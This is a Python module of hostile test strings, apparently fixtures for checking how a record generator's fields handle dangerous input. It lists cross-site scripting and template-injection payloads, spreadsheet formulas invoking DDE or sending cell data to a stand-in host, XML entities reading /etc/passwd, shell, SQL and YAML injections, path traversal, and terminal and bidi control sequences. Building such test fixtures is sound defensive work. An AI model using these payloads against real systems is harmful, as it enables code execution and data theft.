"""Texts written to break what is made of them: those a record may hold, and those no record may.

Each is hostile to some reader: a browser, a spreadsheet, a calendar, a feed reader, a terminal, a template,
a code host, a file system. Whether a field takes one is the schema's to say, not this list's.
"""

import re
from collections.abc import Mapping

from generator.read.characters import FORBIDDEN

FLAG = "__ran"
"""What a script that runs on a page would set on its window."""

_RUN = f"window.{FLAG}=1"

LINES: Mapping[str, tuple[str, ...]] = {
    "HTML and attributes": (
        f"<script>{_RUN}</script>",
        f'"><img src=x onerror="{_RUN}">',
        f"'><svg onload='{_RUN}'>",
        f"</title></style></textarea><svg/onload={_RUN}>",
        f"<!-- {_RUN} --!><script>{_RUN}</script>",
        f"&lt;script&gt;{_RUN}&lt;/script&gt; &amp;amp; &#60; &nosuch;",
        f'" autofocus onfocus="{_RUN}" onmouseover={_RUN} x="',
        f"' style='position:fixed' onpointerenter='{_RUN}' x='",
        f'<iframe srcdoc="<script>parent.{FLAG}=1</script>"></iframe><object data=x><embed src=x>',
        "<base href=//a.example/><meta http-equiv=refresh content='0;url=//a.example/'><link href=x>",
        f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
        f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
        "</td></tr></table></ul></main></body></html><plaintext>",
        "<form action=//a.example><button formaction=//b.example>x</button></form><input name=body>",
        "};*{display:none!important}/*</style><style>@import url(//a.example/x.css);",
        "<a href=//a.example>x</a> http://a.example/?a=1&b=2#c mailto:x",
        '(dokumen/x) "assets/y" \'dokumen/z\' href="../../a" src="data:x"',
    ),
    "addresses that run": (
        f"javascript:{_RUN}",
        f"JaVaScRiPt://%0a{_RUN}//",
        f"data:text/html,<script>{_RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
        "java&#x09;script:x vbscript:x file:///etc/passwd blob:x //a.example/x",
    ),
    "drawings": (
        f"</text></svg><svg><script>{_RUN}</script></svg>",
        f"<foreignObject><body onload='{_RUN}'/></foreignObject><set attributeName=onload to={_RUN} />",
        f"<use href='data:image/svg+xml,x#x'/><animate onbegin={_RUN} attributeName=x dur=1s>",
    ),
    "templates": (
        "{{ 7 * 7 }} {% raw %} {# komentar #} ${7*7} #{7*7}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }} {{ config }} {{ self._TemplateReference__context }}",
        "{% include '/etc/passwd' %} {% endblock %} {% endraw %} {% macro x() %} {%- set x = 1 -%}",
        "}} %} #} <%= 7 * 7 %> <?php echo 1 ?> [[7*7]] *{7*7} @{7*7}",
        "%(count)s %(parties)s %s %d %% 100% {count} {0} {} {number} {x.__class__}",
        "@@registri:body@@ @@registri:title@@ @@registri:head@@ @@registri:place@@",
        "\\u003cscript\\u003e \\x02 \\\\ \\g<1> \\1 $1 $& $$ %s",
    ),
    "Markdown": (
        f"[x](javascript:{_RUN}) ![x](//a.example/x.png) [x][y] <http://a.example> **b** _i_ ~~s~~ `c`",
        "| a | b | --- | # Judul > kutip - [ ] x 1. x ``` ~~~ *** ^^^",
        "@semua @orang/tim #1 !1 contoh/x#2 GH-1 www.a.example a@b :rocket: $x$ <details><summary>x",
        "[x]: http://a.example 'x' \\[x\\] [^1] &nbsp; <!-- --> [![x](x)](x) {#x .y onclick=x}",
    ),
    "JSON in scripts": (
        f"</script><script>{_RUN}</script>",
        f"</script ><!--<script>{_RUN}//--></script>",
        f'"}}]}};{_RUN};//',
        f"';{_RUN};' */ {_RUN} /* \\u2028 `${{{_RUN}}}` \\",
        "__proto__ constructor hasOwnProperty toString",
        '{"__proto__": {"x": 1}, "@context": "http://a.example/x", "@id": "javascript:x", "$ref": "file:///x"}',
    ),
    "formulas": (
        '=HYPERLINK("http://a.example";"x")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '+1+1;"a,b";\'c',
        '-2+3,"","x""y"',
        '=1+1",=2+2;=3+3|=4+4',
        '=IMPORTXML(CONCAT("http://a.example/?"; A1); "//a") =DDE("cmd";"/C calc";"x")',
        "x\t=1+1\t@x;\t+1",
        "'=1+1 \uff1d1+1 \u200b=1+1",
        "[Red]=1 #REF! #N/A 1E5 0x1F 007 1/2 TRUE _x0041_ _x000D_ {=1}",
    ),
    "calendars": (
        "END:VEVENT END:VCALENDAR BEGIN:VALARM ACTION:PROCEDURE ATTACH:file:///bin/sh",
        "\\nATTENDEE:mailto:x\\, \\; \\\\n ;VALUE=URI:http://a.example/x",
        'x;TZID="a":b;X="^n^\'",c:d;RRULE:FREQ=SECONDLY',
    ),
    "XML": (
        f"]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script><![CDATA[",
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x> %y;',
        "<?xml version='1.0'?><?xml-stylesheet href='//a.example/x.xsl'?> &#0; &#x1b; &#xFFFE;",
        "</summary></entry><entry><link href='javascript:x'/><id>x</id></entry> -->",
    ),
    "terminals": (
        "\\x1b[2J \\033[31m \\e]0;x\\a ^[[6n \\u001b[1A %1b[H ␛[31m",
        "\\u009b31m \\r \\b \\0 \\x07 printf '\\33c' $'\\e[8m'",
    ),
    "code hosts": (
        "::error file=x,line=1::y ::set-output name=x::y ::stop-commands::x",
        "##[error]x ##vso[task.setvariable variable=x]y ::add-mask::a %0A::error::x %0D%0A",
        "x,title=y::z %25 : , section_start:1:x\\r /approve /merge ```suggestion",
    ),
    "letters that look alike": (
        "аdmіn pаypаl.com gооgle.com ΑΒΕ ℀ ﬁ ﬀ ı İ ſ K ß",
        "＜script＞ ‹script› ﹤script﹥ ＂＞ ʼ ′ ＇ ＆lt； ． ／ ＼",
        "עברית العربية ﷽ فارسی שלום <b> 123 (א) العربية",
    ),
    "paths": (
        "../../../../etc/passwd \\\\server\\share C:\\x file:///etc/passwd",
        "..%2f..%2f ....// .\\..\\ /etc/passwd%00.yaml con.yaml NUL. aux:x ~/.ssh $HOME",
    ),
    "shells, queries and YAML": (
        "$(touch x) `touch x` ; rm -rf x | tee x && x > x < x * ? ~ ! # %PATH% $IFS",
        "'; DROP TABLE agreements; -- \" OR \"\"=\"\" UNION SELECT 1; /**/ NEAR(x) x* ^x col:x",
        "!!python/object/apply:os.system [x] &a *a <<: *a - x: y # z | > ? %YAML",
        "--- ... null ~ yes 2024-01-01 1e3 .inf 0x1f 1_000",
        "((((a+)+)+)+)$ .*.*.*=.* [[:x:]] (?R) \\b$",
    ),
    "Unicode": (
        "Ä́̂̃̄̅ e̷̛̗ ﷽ 漢字 한글 ไทย हिन्दी 각 é é",
        "Z" + "\u0301\u0302\u0488\u0338" * 15 + "x" + "\u0e49" * 20,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U00010348 \U0001f1ee\U0001f1e9",
        "\U000e0100 \U000f0000 \U0010fffd \ue000",
        "x\u00a0\u00ad\u200b\u2060\u3000y\ufffd",
        # A letter of each plane, whether any is assigned there or not.
        " ".join(chr(plane * 0x10000 + 0x1234) for plane in range(17)),
        "\ufff9a\ufffab\ufffb \U000e0041\U000e007f \u115f\u3164 \u180e \u034f \u2800 \ufe0e",
        "\U0001d173 \U0001f3f4\U000e0067\U000e0062\U000e007f \U0002f800 \u212b \u1e9e \u0130",
    ),
    "length": (
        "M" * 300,
        "i " * 140 + "i",
        "&" * 120 + "<" * 120 + '"' * 120,
    ),
}  # fmt: skip
"""Texts of one line, by what they are hostile to; every field of free text takes them all."""

SEVERAL_LINES = (
    "x\n=1+1\n@x\n\t+1",
    "x\n\n# Judul\n\n<script>x</script>\n\n- a\n- b\n\n```\nx",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y\n ATTACH:z",
    "x\n::error file=x::y\n##[error]z\n::stop-commands::t",
    "---\nid: x\n...\n--- !x\n\tz",
    "x\n|---|\n| y |\n<details>\n@x\n</details>",
    "x" * 70 + "\n" + "lorem ipsum " * 200 + "x",
)
"""Texts of several lines; only fields of several lines take them."""

ADDRESSES = (
    "https://a.example/?a=1&b=2&copy=3&amp;lt;&#38;x#y",
    "https://a.example/{{7*7}}/{%25x%25}/${7*7}/@@registri:body@@",
    "https://a.example/;url=javascript:x,=1+1;=2+2|@x",
    "https://a.example/)](javascript:x)_*y*_[z]!~",
    "https://a.example/%3Cscript%3E%22%27%00%0d%0aX:y%1b[31m",
    "https://a.example/::error::x?u=//b.example/..//../%2e%2e/",
    "https://a.example/漢字é?а=\U00010348#ﬁ",
    "https://xn--80ak6aa92e.example/javascript:x",
    "http://127.0.0.1:65535/?x=https://b.example",
    "https://a.example/" + "x" * 500,
)
"""Web addresses of hostile forms that a field for an address takes."""

NO_ADDRESSES = (
    "https://a.example/<script>",
    'https://a.example/"onclick="x',
    "https://a.example/' x='",
    "https://a.example/\\x`y`",
    "https://user:secret@localhost/",
    "https://a.example:99999/",
    "https://аpple.example/",
    "//a.example/x",
    "ftp://a.example/x",
    "https://xn--a.example.-x/",
)
"""What only looks like an address; no field for one takes it."""

REFUSED: Mapping[str, tuple[str, ...]] = {
    "terminals": (
        "x\x1b[31mmerah\x1b[0m",
        "x\x1b]0;judul\x07y",
        "x\x1b[2J\x1b[H\x1b[6n\x1bcy",
        "x\x1b]8;;http://a.example/\x1b\\y\x1b]8;;\x1b\\",
        "x\x9b31my\x90z\x9c",
        "x\x08\x08\x08y\x07\x7f\x0c\x0bz",
        "x\x0ey\x0f\x05z",
    ),
    "direction of writing": (
        "x\u202egnp.exe\u202c",
        "x\u2066y\u2069\u2067z\u2068",
        "x\u200fy\u200ez\u061c",
        "\u202dx\u202b\u202ay",
    ),
    "ends of lines": ("x\u2028y\u2029z", "x\x85y", "x\ry"),
    "no characters": ("x\x00y", "x\ufeffy\ufffe", "x\uffffy"),
}
"""Texts with characters that no record may hold, in whatever field."""

BLANK = ("", " ", " x", "x ", "\tx", "\u3000x", "x\u00a0", "\u200b\u2060")
"""Texts that are blank or have a blank at an end: no field takes them."""

HUGE = 100_000
"""So many characters no field takes."""

ONE_LINE = tuple(text for texts in LINES.values() for text in texts)
CHARACTERS = tuple(text for texts in REFUSED.values() for text in texts)
PAYLOADS = (*ONE_LINE, *SEVERAL_LINES, *ADDRESSES, *NO_ADDRESSES, *CHARACTERS, *BLANK)
"""All of them but those that are only huge."""


def make_huge(number: int) -> str:
    """Give one of the texts of :data:`HUGE` characters, each of a form that slow searches are slow with."""
    forms = ("x", "x ", "a-", "7", "<", "https://a.example/", "../", "1 2-", "&quot;", "\U00010348")
    form = forms[number % len(forms)]
    return (form * (HUGE // len(form) + 1))[:HUGE].rstrip() + "x"


assert not any(FORBIDDEN.search(text) or re.search(r"^\s|\s$", text) for text in ONE_LINE)
assert all(FORBIDDEN.search(text) for text in CHARACTERS)
assert len(set(PAYLOADS)) == len(PAYLOADS)
